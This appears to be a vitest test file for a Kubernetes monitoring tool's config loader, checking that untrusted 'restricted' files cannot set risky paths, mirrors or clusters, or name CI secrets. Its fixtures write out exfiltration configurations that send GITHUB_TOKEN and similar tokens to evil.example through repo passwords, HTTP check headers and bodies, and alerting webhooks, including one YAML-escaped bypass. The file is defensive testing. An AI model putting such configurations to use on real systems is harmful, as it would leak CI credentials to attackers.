import { describe, expect, it } from "vitest";
import { listSectionKeys } from "../../../src/config/load/monstack-file.ts";
import { describeInput, listSettingNames, type SettingName, settings } from "../../../src/config/settings.ts";
import { sections } from "../../../src/config/trust/limits.ts";
import { strange } from "./strange.ts";

const ways = (name: SettingName) =>
  `set it by ${describeInput(name)} (--${name}), or set trust: full if you know who wrote this file`;

/** A right value of each setting that no stranger's file may set. */
const refusedSettings: Partial<Record<SettingName, string>> = {
  kubeconfig: "./kubeconfig",
  context: "prod",
  "k3s-path": "./k3s",
  "k3s-args": "[--kubelet-arg=x]",
  "k3s-images": "[./images]",
  "helm-path": "/usr/local/bin/helm",
  "kubectl-path": "./kubectl",
  mirrors: "{'https://': 'http://evil.example/'}",
  "lock-file": "other.lock",
  bundle: "./bundle.tar",
  "amtool-path": "./amtool",
  "promtool-path": "./promtool",
  "keep-data": "true",
  "report-dir": "./report",
};

describe("each setting has a class for restricted mode", () => {
  it("which says that it is in no file exactly where it is in none", () => {
    for (const name of listSettingNames()) {
      const { inFile, inRestricted } = settings[name];
      expect([name, inRestricted?.kind === "not-in-files"]).toEqual([name, inFile === undefined]);
    }
  });

  it("and so has each section and each key of an app", () => {
    expect(Object.keys(sections).sort()).toEqual([...listSectionKeys()].sort());
  });

  // A program, a cluster, a host or a folder that is written would be one by its name.
  it("and none that names a program, a folder to write or a cluster is allowed", () => {
    const suspicious = listSettingNames().filter((name) =>
      /path$|args|dir$|kubeconfig|context|mirror|bundle|lock/.test(name),
    );
    const allowed = suspicious.filter((name) => settings[name].inRestricted.kind === "allowed");
    expect(allowed).toEqual([]);
  });

  it("and the test below has a value for each that is refused", () => {
    const names = listSettingNames().filter((name) => settings[name].inRestricted.kind === "refused");
    expect(Object.keys(refusedSettings).sort()).toEqual(names.sort());
  });
});

describe.each(Object.entries(refusedSettings))("the setting %s", (name, value) => {
  const [first = "", second] = settings[name as SettingName].inFile ?? [];
  const yaml = second === undefined ? `${first}: ${value}\n` : `${first}:\n  ${second}: ${value}\n`;
  const { inRestricted } = settings[name as SettingName];
  const because = inRestricted.kind === "refused" ? inRestricted.because : "";

  it("is refused in a stranger's file, with its place and what to do", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    const place = second === undefined ? `1:${first.length + 3}` : `2:${second.length + 5}`;
    expect(await folder.mistake()).toBe(
      `UserError: monstack.yaml:${place}: ${[first, second].filter(Boolean).join(".")}: ${because}; ` +
        `a file can't set it with trust: restricted (a test); ${ways(name as SettingName)}`,
    );
  });

  it("works in a file that is trusted", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    expect(await folder.full()).toBe("it was loaded");
  });

  it("does nothing in a stranger's file where an input sets it", async () => {
    await using folder = await strange({ "monstack.yaml": yaml });
    const given =
      name === "mirrors" ? "https://=https://mirror.example/" : name === "keep-data" ? "false" : "own";
    const { config, origins } = await folder.load({ inputs: { [name]: given } });
    expect(origins[name as SettingName]).toBe("input");
    expect(JSON.stringify(config)).not.toMatch(/evil\.example|kubelet-arg=x|"prod"/);
  });
});

describe("how far files are trusted is said by no file", () => {
  it.each([
    [
      "trust: full",
      "1:8: trust: can't be set in a file; expected --trust, the input trust or MONSTACK_TRUST",
    ],
    ["env: [OWN_TOKEN]", "1:6: env: can't be set in a file; expected --env or the input env"],
  ])("%s", async (yaml, problem) => {
    await using folder = await strange({ "monstack.yaml": yaml });
    expect(await folder.mistake()).toBe(`UserError: monstack.yaml:${problem}`);
    expect(await folder.full()).toBe(`UserError: monstack.yaml:${problem}`);
  });
});

/** Each place of a configuration that names a variable. */
const naming: Record<string, (name: string) => Record<string, string>> = {
  "repos.password": (name) => ({
    "monstack.yaml": `repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}`,
  }),
  "repos.username": (name) => ({
    "monstack.yaml": `repos: {evil: {url: "https://evil.example", username: "\${${name}}", password: "\${${name}}"}}`,
  }),
  "registries.password": (name) => ({
    "monstack.yaml": `registries: {evil.example: {username: x, password: "\${${name}}"}}`,
  }),
  "remote-write.bearer-token-env": (name) => ({
    "monstack.yaml": `remote-write: [{url: "https://evil.example", bearer-token-env: ${name}}]`,
  }),
  "federate.basic-auth": (name) => ({
    "monstack.yaml": `federate: [{targets: ["evil.example:80"], match: ['{job="x"}'], basic-auth: {username: x, password-env: ${name}}}]`,
  }),
  "checks.http.headers": (name) => ({
    "monstack.yaml": `checks: [{name: x, http: {url: "https://evil.example", headers: {X-Stolen: "\${${name}}"}}}]`,
  }),
  "checks.http.body": (name) => ({
    "monstack.yaml": `checks: [{name: x, http: {url: "https://evil.example", body: {stolen: "\${${name}}"}}}]`,
  }),
  "alerting.config": (name) => ({
    "monstack.yaml": `alerting: {config: {receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\${${name}}"}]}]}}`,
  }),
  "a file of alerting.config": (name) => ({
    "monstack.yaml": "alerting: {config: am.yaml}",
    "am.yaml": `receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\${${name}}"}]}]`,
  }),
  "a reference that YAML escapes": (name) => ({
    "monstack.yaml": "alerting: {config: am.yaml}",
    "am.yaml": `receivers: [{name: x, webhook_configs: [{url: "https://evil.example/\\x24\\x7b${name}}"}]}]`,
  }),
  "sbkube's helm_repos": (name) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `settings: {helm_repos: {evil: {url: "https://evil.example", username: x, password: "\${${name}}"}}}\napps: {a: {type: yaml, manifests: [a.yaml]}}`,
    "app/a.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: a}}",
  }),
  "sbkube's oci_registries": (name) => ({
    "monstack.yaml": "app-dir: app",
    "app/sbkube.yaml": `settings: {oci_registries: {evil: {registry: evil.example, username: x, password: "\${${name}}"}}}\napps: {a: {type: yaml, manifests: [a.yaml]}}`,
    "app/a.yaml": "{apiVersion: v1, kind: ConfigMap, metadata: {name: a}}",
  }),
};

describe.each(Object.entries(naming))("a variable that is named in %s", (_, files) => {
  it.each(["ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN", "INPUT_TOKEN", "RUNNER_TOKEN", "STATE_TOKEN"])(
    "is not %s in a stranger's file, even where the input env lists it",
    async (name) => {
      await using folder = await strange(files(name), [name]);
      const told = await folder.mistake();
      expect(told).toContain(
        name === "ACTIONS_RUNTIME_TOKEN" ? "is the runner's own" : `${name} can't be named`,
      );
      expect(told).toMatch(/^UserError: (2 mistakes.*\n +)?(monstack|am|app\/sbkube)\.yaml:1:\d+: /);
      expect(told).not.toContain("canary");
    },
  );

  it("is one that the input env lists", async () => {
    await using folder = await strange(files("OWN_TOKEN"), ["OWN_TOKEN"]);
    expect(await folder.mistake()).toBe("it was loaded");
  });

  it("is none that it doesn't list", async () => {
    await using folder = await strange(files("OWN_TOKEN"), ["OTHER"]);
    expect(await folder.mistake()).toContain(
      "OWN_TOKEN can't be named with trust: restricted (a test); the input env (--env OWN_TOKEN) allows it",
    );
    const { variables } = await (await strange({}, ["OWN_TOKEN"])).load();
    expect(variables).toEqual({ OWN_TOKEN: "canary-own" });
  });

  it("is any but the runner's own where files are trusted", async () => {
    await using folder = await strange(files("GITHUB_TOKEN"));
    expect(await folder.full()).toBe("it was loaded");
    await using runners = await strange(files("ACTIONS_RUNTIME_TOKEN"));
    expect(await runners.full()).toContain("ACTIONS_RUNTIME_TOKEN is the runner's own");
  });
});
